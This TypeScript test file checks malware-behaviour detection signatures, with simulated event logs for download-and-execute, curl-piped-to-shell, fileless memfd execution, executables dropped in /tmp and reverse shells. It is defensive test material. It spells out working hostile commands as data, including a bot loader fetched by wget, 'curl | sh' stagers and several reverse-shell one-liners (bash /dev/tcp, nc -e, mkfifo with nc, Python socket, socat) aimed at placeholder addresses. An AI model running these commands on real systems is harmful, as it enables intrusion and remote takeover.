import { describe } from 'node:test';
import { EventLog, signatureCases } from '../helpers/signatures.js';

/** wget fetches /tmp/bot over HTTP, chmod makes it executable, then it runs: a botnet loader. */
function loader(): EventLog {
  return new EventLog()
    .exec(300, '/bin/sh', ['sh', '/tmp/sample.sh'])
    .fork(300, 301)
    .exec(301, '/usr/bin/wget', ['wget', '-q', 'http://198.51.100.20/bins/bot.x86', '-O', '/tmp/bot'])
    .connect(301, '198.51.100.20', 80)
    .write(301, '/tmp/bot', 65536)
    .fork(300, 302)
    .exec(302, '/bin/chmod', ['chmod', '+x', '/tmp/bot'])
    .add(302, { kind: 'file.chmod', path: '/tmp/bot', mode: 0o755, ret: 0 })
    .fork(300, 303)
    .exec(303, '/tmp/bot', ['/tmp/bot']);
}

describe('execution signatures', () => {
  signatureCases([
    { signature: 'download_and_execute', title: 'wget, chmod +x, run', scenario: () => ({ events: loader() }) },
    {
      signature: 'download_and_execute',
      title: 'a script fetched by curl and run by its interpreter',
      scenario: () => ({
        events: new EventLog()
          .exec(310, '/usr/bin/curl', ['curl', '-so', '/var/tmp/i.sh', 'http://198.51.100.20/i.sh'])
          .connect(310, '198.51.100.20', 80)
          .write(310, '/var/tmp/i.sh')
          .exec(311, '/bin/bash', ['bash', '/var/tmp/i.sh']),
      }),
    },
    {
      signature: 'download_and_execute',
      title: 'a binary fetched into /dev/shm and run from there',
      scenario: () => ({
        events: new EventLog()
          .exec(314, '/tmp/dropper', ['/tmp/dropper'])
          .connect(314, '198.51.100.20', 80)
          .write(314, '/dev/shm/.x')
          .add(314, { kind: 'file.chmod', path: '/dev/shm/.x', mode: 0o700, ret: 0 })
          .exec(315, '/dev/shm/.x', ['/dev/shm/.x']),
      }),
    },
    {
      signature: 'download_and_execute',
      title: 'a file copied locally, not downloaded, then run',
      matches: false,
      scenario: () => ({ events: new EventLog().exec(312, '/bin/cp', ['cp', '/bin/true', '/opt/t']).write(312, '/opt/t').exec(313, '/opt/t', ['/opt/t']) }),
    },
    {
      signature: 'pipe_to_shell',
      title: 'a script running curl URL | sh itself: the fetcher and a shell reading stdin, side by side',
      scenario: () => ({
        events: new EventLog()
          .exec(330, '/bin/bash', ['/bin/bash', '/tmp/x.sh'])
          .fork(330, 331)
          .fork(330, 332)
          .exec(331, '/usr/bin/curl', ['curl', '-fsSL', 'http://get.stager.test/install.sh'])
          .exec(332, '/bin/sh', ['sh']),
      }),
    },
    {
      signature: 'pipe_to_shell',
      title: 'a script that downloads to a file and runs a local script',
      matches: false,
      scenario: () => ({
        events: new EventLog()
          .exec(333, '/bin/bash', ['/bin/bash', '/tmp/x.sh'])
          .fork(333, 334)
          .fork(333, 335)
          .exec(334, '/usr/bin/curl', ['curl', '-fsSL', '-o', '/tmp/page', 'http://example.test/'])
          .exec(335, '/bin/sh', ['sh', '/opt/setup.sh']),
      }),
    },
    {
      signature: 'pipe_to_shell',
      title: 'curl | sh',
      scenario: () => ({ events: new EventLog().exec(320, '/bin/sh', ['sh', '-c', 'curl -fsSL http://198.51.100.20/i.sh | sh']) }),
    },
    {
      signature: 'pipe_to_shell',
      title: 'bash -c "$(wget -qO- ...)"',
      scenario: () => ({ events: new EventLog().exec(321, '/bin/bash', ['bash', '-c', '$(wget -qO- http://198.51.100.20/x)']) }),
    },
    {
      signature: 'pipe_to_shell',
      title: 'a download saved to a file',
      matches: false,
      scenario: () => ({ events: new EventLog().exec(322, '/bin/sh', ['sh', '-c', 'curl -o /tmp/page.html http://example.com/ && grep title /tmp/page.html']) }),
    },
    {
      signature: 'fileless_memfd_exec',
      title: 'memfd_create then fexecve through /proc/self/fd',
      scenario: () => ({
        events: new EventLog()
          .add(330, { kind: 'memory.memfd', name: '', ret: 3 })
          .add(330, { kind: 'file.write', path: '/memfd: (deleted)', bytes: 800000 })
          .exec(330, '/proc/self/fd/3', ['[kworker/u:2]']),
      }),
    },
    {
      signature: 'fileless_memfd_exec',
      title: 'a memfd mapped executable',
      scenario: () => ({
        events: new EventLog()
          .add(331, { kind: 'memory.memfd', name: 'jit', ret: 4 })
          .add(331, { kind: 'memory.exec_map', call: 'mmap', address: '0x7f0000000000', length: 4096, prot: 5, path: '/memfd:jit (deleted)' }),
      }),
    },
    {
      signature: 'fileless_memfd_exec',
      title: 'a memfd used only for data',
      matches: false,
      scenario: () => ({ events: new EventLog().add(332, { kind: 'memory.memfd', name: 'shm', ret: 3 }) }),
    },
    {
      signature: 'executable_dropped_tmp',
      title: 'a file written to /dev/shm and made executable',
      scenario: () => ({ events: new EventLog().write(340, '/dev/shm/.x/kdev').add(340, { kind: 'file.chmod', path: '/dev/shm/.x/kdev', mode: 0o777, ret: 0 }) }),
    },
    {
      signature: 'executable_dropped_tmp',
      title: 'an ELF executable among the dropped files from /tmp',
      scenario: () => ({
        report: {
          dropped: [
            {
              name: 'upd',
              path: '/nonexistent/files/upd',
              filepath: '/tmp/upd',
              pids: [341],
              size: 1000,
              crc32: '',
              md5: '',
              sha1: '',
              sha256: '',
              sha512: '',
              ssdeep: null,
              type: 'ELF 64-bit LSB executable, x86-64, version 1 (SYSV), statically linked, stripped',
              yara: [],
              urls: [],
            },
          ],
        },
      }),
    },
    {
      signature: 'executable_dropped_tmp',
      title: 'a text file written to /tmp and read back',
      matches: false,
      scenario: () => ({ events: new EventLog().write(342, '/tmp/notes.txt').read(342, '/tmp/notes.txt') }),
    },
    {
      signature: 'executable_dropped_tmp',
      title: 'a script writing a helper script to /tmp, making it executable and running it',
      matches: false,
      scenario: () => ({
        events: new EventLog()
          .exec(343, '/bin/sh', ['sh', '/tmp/build.sh'])
          .write(343, '/tmp/build/gen.sh')
          .add(343, { kind: 'file.chmod', path: '/tmp/build/gen.sh', mode: 0o755, ret: 0 })
          .fork(343, 344)
          .exec(344, '/tmp/build/gen.sh', ['/tmp/build/gen.sh']),
        report: {
          dropped: [{ name: 'gen.sh', path: '/nonexistent/files/gen.sh', filepath: '/tmp/build/gen.sh', pids: [343], size: 64, crc32: '', md5: '', sha1: '', sha256: '', sha512: '', ssdeep: null, type: 'POSIX shell script, ASCII text executable', yara: [], urls: [] }],
        },
      }),
    },
    {
      signature: 'executable_dropped_tmp',
      title: 'an ELF written to /tmp and run, the dropped file showing its type',
      scenario: () => ({
        events: new EventLog().exec(345, '/tmp/loader', ['./loader']).write(345, '/tmp/.cache/kworker').fork(345, 346).exec(346, '/tmp/.cache/kworker', ['kworker']),
        report: {
          dropped: [{ name: 'kworker', path: '/nonexistent/files/kworker', filepath: '/tmp/.cache/kworker', pids: [345], size: 64, crc32: '', md5: '', sha1: '', sha256: '', sha512: '', ssdeep: null, type: 'ELF 64-bit LSB pie executable, x86-64', yara: [], urls: [] }],
        },
      }),
    },
    {
      signature: 'reverse_shell',
      title: 'python connects, pty.spawn forks a bare shell',
      scenario: () => ({
        events: new EventLog()
          .exec(350, '/usr/bin/python3', ['python3', '/tmp/r.py'])
          .connect(350, '203.0.113.5', 4444)
          .fork(350, 351)
          .exec(351, '/bin/sh', ['sh']),
      }),
    },
    {
      signature: 'reverse_shell',
      title: 'a shell redirected to /dev/tcp execs bash -i over the socket',
      scenario: () => ({
        events: new EventLog()
          .exec(352, '/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'])
          .fork(352, 353)
          .connect(353, '203.0.113.5', 4444, { ret: -115 })
          .exec(353, '/bin/bash', ['bash', '-i']),
      }),
    },
    {
      signature: 'reverse_shell',
      title: 'a networked program running a shell command',
      matches: false,
      scenario: () => ({
        events: new EventLog()
          .exec(354, '/usr/bin/python3', ['python3', 'app.py'])
          .connect(354, '203.0.113.5', 443)
          .fork(354, 355)
          .exec(355, '/bin/sh', ['sh', '-c', 'ls /tmp']),
      }),
    },
    {
      signature: 'reverse_shell',
      title: 'a shell whose only connection is local',
      matches: false,
      scenario: () => ({ events: new EventLog().exec(356, '/usr/bin/python3', ['python3']).connect(356, '127.0.0.1', 8000).exec(356, '/bin/sh', ['sh']) }),
    },
    {
      signature: 'reverse_shell_command_line',
      title: 'bash -i >& /dev/tcp',
      scenario: () => ({ events: new EventLog().exec(360, '/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1']) }),
    },
    {
      signature: 'reverse_shell_command_line',
      title: 'nc -e /bin/sh',
      scenario: () => ({ events: new EventLog().exec(361, '/bin/nc.traditional', ['nc', '-e', '/bin/sh', '203.0.113.5', '4444']) }),
    },
    {
      signature: 'reverse_shell_command_line',
      title: 'mkfifo and nc',
      scenario: () => ({
        events: new EventLog().exec(362, '/bin/sh', ['sh', '-c', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f']),
      }),
    },
    {
      signature: 'reverse_shell_command_line',
      title: 'the Python one-liner',
      scenario: () => ({
        events: new EventLog().exec(363, '/usr/bin/python3', [
          'python3',
          '-c',
          'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.5",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])',
        ]),
      }),
    },
    {
      signature: 'reverse_shell_command_line',
      title: 'socat exec',
      scenario: () => ({ events: new EventLog().exec(364, '/usr/bin/socat', ['socat', 'exec:bash -li,pty,stderr', 'tcp:203.0.113.5:4444']) }),
    },
    {
      signature: 'reverse_shell_command_line',
      title: 'nc checking a port',
      matches: false,
      scenario: () => ({ events: new EventLog().exec(365, '/bin/nc', ['nc', '-zv', 'example.com', '80']) }),
    },
  ]);
});
